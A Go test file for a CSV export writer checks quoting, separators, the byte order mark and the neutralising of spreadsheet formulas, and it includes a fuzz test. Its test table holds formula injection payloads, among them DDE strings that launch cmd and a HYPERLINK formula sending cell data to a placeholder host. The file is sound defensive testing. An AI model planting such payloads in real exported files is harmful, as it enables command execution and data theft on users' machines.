package checks_test

import (
	"encoding/csv"
	"errors"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"trousseau/app/checks"
)

func mustCSV(t *testing.T, separator rune, rows ...[]string) string {
	t.Helper()
	var b strings.Builder
	table, err := checks.NewCSV(&b, separator)
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		if err := table.Row(row...); err != nil {
			t.Fatal(err)
		}
	}
	return b.String()
}

// readCSV is what an independent reader finds, the byte order mark taken off.
func readCSV(t *testing.T, separator rune, file string) [][]string {
	t.Helper()
	rest, found := strings.CutPrefix(file, "\uFEFF")
	if !found {
		t.Fatalf("no byte order mark: %q", file)
	}
	r := csv.NewReader(strings.NewReader(rest))
	r.Comma = separator
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%v: %q", err, file)
	}
	return rows
}

func TestCSVCells(t *testing.T) {
	for _, c := range []struct{ cell, want string }{
		{"", ""},
		{"Élise Lefèvre", "Élise Lefèvre"},
		{"Bedrijf; Zonen", `"Bedrijf; Zonen"`},
		{"Bedrijf, Zonen", `"Bedrijf, Zonen"`},
		{`Café "Roma"`, `"Café ""Roma"""`},
		{"a\r\nb", "\"a\r\nb\""},
		{"a\nb", "\"a\nb\""},
		{"a\tb", "\"a\tb\""},
		{" a", `" a"`},
		{"a ", `"a "`},
		{"a\u00a0", "\"a\u00a0\""},
		{"a\xffb", "a\uFFFDb"},
		{"a=b@c", "a=b@c"},
		{"ID", "ID"}, // a file that begins so is taken for another format, but for the mark
		// Numbers stay numbers.
		{"12.50", "12.50"},
		{"-12.50", "-12.50"},
		{"-12,50", `"-12,50"`},
		{"-7", "-7"},
		{"-0", "-0"},
		// What only looks like one does not.
		{"-", `"'-"`},
		{"-.5", `"'-.5"`},
		{"-5.", `"'-5."`},
		{"--5", `"'--5"`},
		{"-1.2.3", `"'-1.2.3"`},
		{"-1.234,50", `"'-1.234,50"`},
		{"-2+3", `"'-2+3"`},
		{"-1e5", `"'-1e5"`},
		{"-٣", `"'-٣"`},
		{"+12", `"'+12"`},
		{"+32 475 12 34 56", `"'+32 475 12 34 56"`},
		// Formulas, among them calls of programs (DDE) and of the network.
		{"=1+1", `"'=1+1"`},
		{`=cmd|' /C calc'!A0`, `"'=cmd|' /C calc'!A0"`},
		{`+cmd|' /C calc'!A0`, `"'+cmd|' /C calc'!A0"`},
		{`-2+3+cmd|' /C calc'!A0`, `"'-2+3+cmd|' /C calc'!A0"`},
		{`@SUM(1+1)*cmd|' /C calc'!A0`, `"'@SUM(1+1)*cmd|' /C calc'!A0"`},
		{`=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`, `"'=DDE(""cmd"";""/C calc"";""__DdeLink_60_870516294"")"`},
		{`=HYPERLINK("https://x.example?"&A1,"here")`, `"'=HYPERLINK(""https://x.example?""&A1,""here"")"`},
		{"@elise", `"'@elise"`},
		{"\t=1", "\"'\t=1\""},
		{"\tElise", "\"'\tElise\""},
		{"\r=1", "\"'\r=1\""},
		{"\n=1", "\"'\n=1\""},
		{"\n-3+3", "\"'\n-3+3\""},
		{"\x00=1", "\"'\x00=1\""},
		{"\x00Elise", "\"'\x00Elise\""},
		{"\x7f=1", "\"'\x7f=1\""},
		{"\u0085=1", "\"'\u0085=1\""},
		{" =1", `"' =1"`},
		{"   -1+1", `"'   -1+1"`},
		{"\u00a0=1", "\"'\u00a0=1\""},
		{"\u3000=1", "\"'\u3000=1\""},
		{"\u200b=1", "\"'\u200b=1\""},
		{"\ufeff=1", "\"'\ufeff=1\""},
		{"\u202e=1", "\"'\u202e=1\""},
		{"＝1+1", `"'＝1+1"`},
		{"＋1", `"'＋1"`},
		{"－1", `"'－1"`},
		{"＠A1", `"'＠A1"`},
		{"﹦1", `"'﹦1"`},
		{"﹢1", `"'﹢1"`},
		{" ＝1", `"' ＝1"`},
		{" \t\u200b＝1", "\"' \t\u200b＝1\""},
		// An apostrophe of somebody's own stays single, unless a formula hides behind it.
		{"'t Hof", `"'t Hof"`},
		{"''", `"''"`},
		{"'=1", `"''=1"`},
		{"''=1", `"'''=1"`},
		{"'-12.50", `"'-12.50"`},
	} {
		for _, separator := range []rune{',', ';'} {
			s := string(separator)
			want := "\uFEFF" + c.want + s + "x" + s + c.want + "\r\n"
			if got := mustCSV(t, separator, []string{c.cell, "x", c.cell}); got != want {
				t.Errorf("%q: %q, want %q", c.cell, got, want)
			}
		}
	}
}

func TestCSVTables(t *testing.T) {
	if got, want := mustCSV(t, ';', []string{"Personne", "2FA"}, []string{"Joris", ""}, []string{"", ""}), "\uFEFFPersonne;2FA\r\nJoris;\r\n;\r\n"; got != want {
		t.Errorf("%q, want %q", got, want)
	}
	if got, want := mustCSV(t, ',', []string{""}, []string{"a"}, []string{""}), "\uFEFF\"\"\r\na\r\n\"\"\r\n"; got != want {
		t.Errorf("%q, want %q", got, want)
	}
	if got := mustCSV(t, ','); got != "" {
		t.Errorf("a table without rows is %q", got)
	}
}

// full takes so many bytes and then no more.
type full struct{ left int }

var errFull = errors.New("full")

func (f *full) Write(b []byte) (int, error) {
	if f.left -= len(b); f.left < 0 {
		return 0, errFull
	}
	return len(b), nil
}

func TestRefusedCSV(t *testing.T) {
	for _, separator := range []rune{0, '\t', '"', '\n', '|', '，', -1, ',' + 256} {
		if table, err := checks.NewCSV(&strings.Builder{}, separator); !errors.Is(err, checks.ErrCSVSeparator) || table != nil {
			t.Errorf("%q: %v", separator, err)
		}
	}
	var b strings.Builder
	table, err := checks.NewCSV(&b, ';')
	if err != nil {
		t.Fatal(err)
	}
	if err := table.Row(); !errors.Is(err, checks.ErrCSVColumns) {
		t.Errorf("a row without cells: %v", err)
	}
	if err := table.Row("a", "b"); err != nil {
		t.Fatal(err)
	}
	for _, cells := range [][]string{{}, {"a"}, {"a", "b", "c"}} {
		if err := table.Row(cells...); !errors.Is(err, checks.ErrCSVColumns) {
			t.Errorf("%d cells: %v", len(cells), err)
		}
	}
	if b.String() != "\uFEFFa;b\r\n" {
		t.Errorf("refused rows were written: %q", b.String())
	}
	table, err = checks.NewCSV(&full{10}, ';')
	if err != nil {
		t.Fatal(err)
	}
	if first, second := table.Row("a", "b"), table.Row("c", "d"); first != nil || !errors.Is(second, errFull) {
		t.Errorf("a full disk: %v, %v", first, second)
	}
}

// A reader gives back every cell, but for the apostrophe in front of a formula; and
// no cell that it gives back begins like one.
func FuzzCSV(f *testing.F) {
	for _, cell := range []string{"", "a", "-12.50", "=1+1", " =1", "\u200b\t＝1", "'=1", "''", "a\r\nb", "\r", "\"", "a;b,c", "\xff=1", "\x00@", "-1,2,3", "⩵", "\ufeff"} {
		f.Add(cell, "b", true)
		f.Add("a", cell, false)
	}
	f.Fuzz(func(t *testing.T, first, second string, comma bool) {
		separator := ';'
		if comma {
			separator = ','
		}
		cells := []string{first, second}
		file := mustCSV(t, separator, cells, cells)
		rows := readCSV(t, separator, file)
		if len(rows) != 2 || len(rows[0]) != 2 || !strings.HasSuffix(file, "\r\n") || !utf8.ValidString(file) {
			t.Fatalf("%d rows: %q", len(rows), file)
		}
		for i, got := range append(rows[0], rows[1]...) {
			// The reader makes LF of CR LF.
			want := strings.ReplaceAll(strings.ToValidUTF8(cells[i%2], "\uFFFD"), "\r\n", "\n")
			seen := strings.TrimLeftFunc(got, func(r rune) bool { return unicode.IsSpace(r) || !unicode.IsGraphic(r) })
			if seen != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(seen)[0]) && strings.Trim(seen, "-.,0123456789") != "" {
				t.Fatalf("%q begins like a formula", got)
			}
			if got != want && unmarked(t, separator, got) != want {
				t.Fatalf("%q came back as %q", want, got)
			}
			if got == want && got != "" && unmarked(t, separator, got) != got {
				t.Fatalf("%q stands for two cells", got)
			}
		}
	})
}

// unmarked takes the apostrophe off where the writer puts one.
func unmarked(t *testing.T, separator rune, cell string) string {
	t.Helper()
	rest, found := strings.CutPrefix(cell, "'")
	if found && readCSV(t, separator, mustCSV(t, separator, []string{rest}))[0][0] == cell {
		return rest
	}
	return cell
}
